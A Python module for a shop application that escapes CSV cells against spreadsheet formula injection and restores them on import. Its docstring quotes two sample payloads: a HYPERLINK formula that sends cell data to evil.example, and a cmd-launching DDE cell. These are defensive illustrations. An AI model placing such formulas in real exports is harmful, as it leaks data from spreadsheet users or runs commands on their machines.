"""CSV files that people open in a spreadsheet: no cell runs as a formula.

Every CSV file the mall writes (the catalog export today; orders, invoices and
statements later) goes through ``writer``, and every CSV file it reads through
``reader``, so that what is escaped on the way out is restored on the way in.

The rule (OWASP, "CSV injection"): Excel, LibreOffice and Google Sheets run a
cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as
a formula, so a product titled ``=HYPERLINK("https://evil.example/?"&A2, "Open")``
would run in the shop owner's spreadsheet. ``escape_cell`` puts a single quote
(``'``) before such a cell; spreadsheets show the text as typed and run nothing.

- A cell that is one or more quotes followed by one of those characters is
  escaped too (``'=x`` is written ``''=x``), so that escaping is one-to-one.
- A plain number (``-3``, ``-12.50``: an optional minus, digits, an optional
  decimal part) is written as it is. It cannot run as anything, and a stock of
  ``-3`` must stay a number in the spreadsheet. The app writes its numeric
  columns (prices, stock, weights) from integers, so they are always plain
  numbers; text that happens to be one (a title "-1") is safe for the same
  reason. Anything else beginning with ``-`` (``-2+3+cmd|' /C calc'!A0``, a
  Markdown list ``- item``) is escaped.

``unescape_cell`` is the inverse: a cell that begins with a quote followed by
quotes and then one of those characters loses its first quote; every other
cell is left alone. So ``unescape_cell(escape_cell(text)) == text`` for every
text, and export -> import -> export is byte-identical.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TextIO

# Starts a formula in a spreadsheet (OWASP): = + - @ tab carriage-return.
TRIGGERS = "=+-@\t\r"
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def escape_cell(text: str) -> str:
    """``"=SUM(A1)"`` -> ``"'=SUM(A1)"``; plain numbers and harmless text unchanged."""
    if _NEEDS_QUOTE.match(text) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def unescape_cell(text: str) -> str:
    """The inverse of ``escape_cell``: ``"'=SUM(A1)"`` -> ``"=SUM(A1)"``."""
    return text[1:] if _ESCAPED.match(text) else text


class SafeWriter:
    """Writes rows of cells as CSV (CRLF line ends), escaping each with ``escape_cell``."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream, lineterminator="\r\n")

    def writerow(self, cells: Iterable[object]) -> None:
        """One row; ``None`` is an empty cell, anything else is written as ``str()`` of it."""
        self._writer.writerow([escape_cell("" if c is None else str(c)) for c in cells])


def writer(stream: TextIO) -> SafeWriter:
    """The CSV writer for every file the mall gives people."""
    return SafeWriter(stream)


def reader(stream: Iterable[str]) -> SafeReader:
    """The CSV reader for every file the mall reads: rows with each cell unescaped."""
    return SafeReader(stream)


class SafeReader:
    """``csv.reader`` whose cells are unescaped; ``line_num`` as in ``csv.reader``."""

    def __init__(self, stream: Iterable[str]) -> None:
        self._reader = csv.reader(stream)

    @property
    def line_num(self) -> int:
        """The number of lines read so far (a quoted cell may span several)."""
        return self._reader.line_num

    def __iter__(self) -> SafeReader:
        return self

    def __next__(self) -> list[str]:
        return [unescape_cell(cell) for cell in next(self._reader)]
